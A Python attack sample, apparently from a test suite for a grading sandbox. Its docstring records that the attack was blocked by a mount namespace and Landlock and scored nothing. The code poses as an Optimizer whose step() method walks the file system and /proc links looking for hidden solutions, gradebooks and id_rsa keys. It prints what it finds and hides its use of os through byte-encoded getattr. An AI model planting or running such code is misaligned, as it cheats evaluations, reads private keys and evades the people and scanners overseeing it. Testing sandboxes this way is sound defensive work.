"""Attack: walks the file system from / and from .., also through /proc/*/root and /proc/*/cwd, for a course's secret half.

Exercise: optimizer
Earns: 0
Stopped by: mount namespace, Landlock (no folder but Python's own can be listed)
Levels: full, container
"""

import random
import time

# `random._os`, in a form that no reader of names can follow.
os = getattr(random, bytes((95, 111, 115)).decode())
ROOTS = ["..", "/home", "/root", "/tmp", "/var", "/srv", "/opt", "/mnt", "/data", "/proc/1/cwd", "/"]
ROOTS += [f"/proc/{pid}/{link}" for pid in ("1", "self", str(os.getppid())) for link in ("root/tmp", "cwd")]
WANTED = ("solutions", "suite", ".secret", "mistakes", "id_rsa", "gradebook.db", "ledger.sqlite")


def look():
    end = time.monotonic() + 0.5
    for root in ROOTS:
        for folder, folders, files in os.walk(root, followlinks=False):
            for name in files:
                if name in WANTED or any(f"/{w}/" in f"{folder}/" for w in WANTED[:2]):
                    path = os.path.join(folder, name)
                    try:
                        with open(path, "rb") as file:
                            print("BREACH", path, file.read(100))
                    except OSError:
                        pass
            folders[:] = [f for f in folders if f not in ("proc", "sys", "site-packages", "lib")]
            if time.monotonic() > end:
                return


class Optimizer:
    def __init__(self, params, lr):
        self.params, self.lr = list(params), lr

    def step(self):
        look()

    def zero_grad(self):
        pass
